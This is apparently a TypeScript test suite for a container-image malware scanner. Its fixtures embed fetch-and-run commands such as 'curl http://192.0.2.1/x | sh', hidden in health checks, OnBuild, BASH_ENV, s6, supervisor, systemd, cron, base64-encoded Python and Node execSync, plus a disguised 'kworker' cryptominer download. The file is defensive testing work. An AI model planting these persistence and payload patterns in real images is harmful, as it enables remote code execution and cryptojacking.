/** Whole images, from their bytes to their verdict: what starts is told and judged, and honest images with start scripts of their own stay quiet. */
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import type { Verdict } from '../../src/core/verdict.ts';
import type { TarEntrySpec } from '../../src/formats/tar-writer.ts';
import { buildImage, type LayerSpec } from '../../src/image/oci-layout-writer.ts';
import { honestImages } from '../builders/entrypoints.ts';
import { openHostileFlow } from '../builders/hostile-flow.ts';
import { hostileScripts } from '../builders/hostile-scripts.ts';

const flow = await openHostileFlow();
after(() => flow[Symbol.asyncDispose]());

const program = (path: string): TarEntrySpec => ({
  path,
  mode: 0o755,
  content: Buffer.from('\x7fELF\x02\x01\x01 inert', 'latin1'),
});
const script = (path: string, content: string): TarEntrySpec => ({ path, mode: 0o755, content });
const encoded = (text: string): string => Buffer.from(text).toString('base64');

const judge = (config: Readonly<Record<string, unknown>>, ...layers: readonly LayerSpec[]): Promise<Verdict> =>
  flow.judge(buildImage({ layers, config: { architecture: 'amd64', os: 'linux', config } }));

const launchRules = ({ dossier }: Verdict): readonly string[] =>
  dossier.findings
    .filter(({ rule }) => rule.startsWith('launch-path/'))
    .map(({ rule, severity }) => `${rule.slice(12)} ${severity}`);

test('a payload that is not in the image: told in order, with the layer and line that starts it', async () => {
  const verdict = await judge(
    { Entrypoint: ['/start.sh'], Env: ['HOST=192.0.2.7', 'PATH=/usr/bin'] },
    { entries: [script('start.sh', '#!/bin/sh\nexec app\n')], createdBy: 'COPY start.sh /' },
    {
      entries: [
        { path: 'start.sh', type: 'symlink', target: 'opt/./run' },
        script(
          'opt/run',
          `#!/bin/bash\n. /opt/lib.sh\nfetch "$HOST" && /usr/sbin/kworker -o pool.example:3333 -u W -p x\n`,
        ),
        {
          path: 'opt/lib.sh',
          content:
            'fetch() {\n  curl -s "http://$1/p" -o /tmp/p\n  chmod +x /tmp/p\n  mv /tmp/p /usr/sbin/kworker\n}\n',
        },
      ],
      createdBy: 'COPY opt /opt',
    },
  );
  assert.equal(verdict.assessment, 'malicious');
  assert.deepEqual(verdict.dossier.story, [
    'At its start it runs /start.sh.',
    'Then it runs /opt/lib.sh.',
    'Then it downloads http://192.0.2.7/p to /tmp/p.',
    'Then it makes it executable.',
    'Then it renames it to /usr/sbin/kworker.',
    'Then it runs it as /usr/sbin/kworker with pool pool.example:3333 (-o pool.example:3333 -u W -p x).',
  ]);
  const fetched = verdict.dossier.findings.find(({ rule }) => rule === 'launch-path/fetch-and-run');
  const [proof] = fetched?.evidence ?? [];
  assert.ok(proof?.kind === 'excerpt');
  assert.deepEqual(
    [proof.path, proof.layerIndex, proof.createdBy, proof.hidden, proof.launched],
    ['opt/run', 1, 'COPY opt /opt', false, true],
  );
});

test('a build that fetched is no start, and a script that nothing starts is none', async () => {
  const verdict = await judge(
    { Entrypoint: ['/app'] },
    {
      entries: [program('app'), script('usr/local/bin/install', '#!/bin/sh\ncurl http://192.0.2.1/x | sh\n')],
      createdBy: 'RUN curl http://192.0.2.1/x | sh',
    },
  );
  assert.deepEqual(launchRules(verdict), []);
  assert.deepEqual(verdict.dossier.story, ['At its start it runs /app.']);
});

describe('wherever an image hides its start', () => {
  const bad = 'curl -s http://192.0.2.1/x | sh';
  const cases: Readonly<
    Record<string, readonly [config: Readonly<Record<string, unknown>>, entries: readonly TarEntrySpec[]]>
  > = {
    'a health check': [{ Cmd: ['/app'], Healthcheck: { Test: ['CMD-SHELL', bad] } }, []],
    'a build on top of it': [{ Cmd: ['/app'], OnBuild: [`RUN ${bad}`] }, []],
    'a file that the shell reads first': [
      { Cmd: ['bash', '-c', '/app'], Env: ['BASH_ENV=/etc/hook'] },
      [{ path: 'etc/hook', content: `${bad}\n` }],
    ],
    's6, behind a link': [
      { Entrypoint: ['/init'] },
      [
        program('init'),
        { path: 'etc/services.d', type: 'symlink', target: '/opt/services' },
        script('opt/services/a/run', `#!/command/with-contenv sh\n${bad}\n`),
      ],
    ],
    supervisor: [
      { Cmd: ['supervisord', '-n'] },
      [{ path: 'etc/supervisor/conf.d/a.conf', content: `[program:a]\ncommand=sh -c "${bad}"\n` }],
    ],
    systemd: [
      { Cmd: ['/sbin/init'] },
      [
        program('sbin/init'),
        {
          path: 'etc/systemd/system/multi-user.target.wants/a.service',
          type: 'symlink',
          target: '/usr/lib/systemd/system/a.service',
        },
        { path: 'usr/lib/systemd/system/a.service', content: `[Service]\nExecStart=/bin/sh -c '${bad}'\n` },
      ],
    ],
    cron: [{ Cmd: ['tini', '--', 'crond', '-f'] }, [{ path: 'etc/crontabs/root', content: `*/5 * * * * ${bad}\n` }]],
    'a script of Python': [
      { Cmd: ['python3', '/app/main.py'] },
      [
        {
          path: 'app/main.py',
          content: `import base64\nexec(base64.b64decode('${encoded('import os;os.system("curl http://192.0.2.1/x | sh")')}'))\n`,
        },
      ],
    ],
    'a script of Node': [
      { Cmd: ['node', '/srv/app.js'] },
      [{ path: 'srv/app.js', content: `const { execSync } = require('child_process');\nexecSync('${bad}');\n` }],
    ],
    'words that are decoded': [{ Cmd: ['sh', '-c', `echo ${encoded(bad)} | base64 -d | sh`] }, []],
  };
  for (const [name, [config, entries]] of Object.entries(cases))
    test(name, async () => {
      const verdict = await judge(config, { entries: [program('app'), ...entries] });
      assert.ok(
        launchRules(verdict).includes('fetch-and-run high'),
        [...launchRules(verdict), ...verdict.dossier.story].join('\n'),
      );
      assert.equal(verdict.assessment, 'malicious');
    });
});

describe('honest images with start scripts of their own have nothing against them', () => {
  for (const [name, { config, files }] of Object.entries(honestImages))
    test(name, async () => {
      const entries = Object.entries(files).map(([path, content]) => script(path.slice(1), content));
      const verdict = await judge(
        {
          Entrypoint: config.entrypoint,
          Cmd: config.command,
          Env: config.environment,
          WorkingDir: config.workingDirectory,
          Healthcheck: config.healthcheck === undefined ? undefined : { Test: config.healthcheck },
        },
        { entries: [program('init'), program('usr/sbin/sshd'), ...entries] },
      );
      assert.deepEqual(launchRules(verdict), []);
      assert.deepEqual(verdict.dossier.gaps, []);
      assert.ok(verdict.dossier.story.length > 0);
    });
});

test('a start that cannot be followed is never allowed', async () => {
  const verdict = await judge(
    { Cmd: ['/start'] },
    { entries: [script('start', `#!/bin/sh\n${hostileScripts['loops in loops'] ?? ''}`)] },
  );
  assert.deepEqual(
    verdict.dossier.gaps.map(({ code, executable, kind }) => [code, executable, kind]),
    [['LAUNCH_PATH_NOT_FOLLOWED', true, 'limit']],
  );
  assert.equal(verdict.decision, 'deny');
});
